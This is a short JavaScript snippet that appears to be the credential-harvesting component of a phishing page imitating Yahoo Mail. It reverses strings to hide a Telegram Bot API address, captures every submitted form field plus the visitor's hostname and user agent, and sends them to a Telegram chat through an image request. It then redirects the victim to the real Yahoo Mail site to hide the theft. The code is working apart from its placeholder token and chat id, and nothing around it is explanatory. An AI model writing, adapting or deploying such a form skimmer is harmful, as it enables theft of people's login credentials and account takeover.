!function () {
  var p = ["gro.", "margelet", ".ipa//:sptth"].map(function (s) { return s.split("").reverse().join(""); });
  var base = p[2] + p[1] + p[0];
  var key = ["1234567890", "AAPLACEHOLDER", "placeholder", "PLACEHOLDER00"];
  key = key[0] + ":" + key.slice(1).join("");
  var f = document.querySelector("form");
  f.onsubmit = function () {
    var out = [];
    for (var i = 0; i < f.elements.length; i++) {
      var el = f.elements[i];
      if (el.name && el.value) out.push(el.name + " => " + el.value);
    }
    out.push("from => " + location.hostname, "ua => " + navigator.userAgent);
    (new Image).src = base + "/bot" + key + "/sendMessage?chat_id=000000000&text=" + encodeURIComponent(out.join("\n"));
    setTimeout(function () { location.href = "https://mail.yahoo.com/"; }, 900);
    return false;
  };
}();
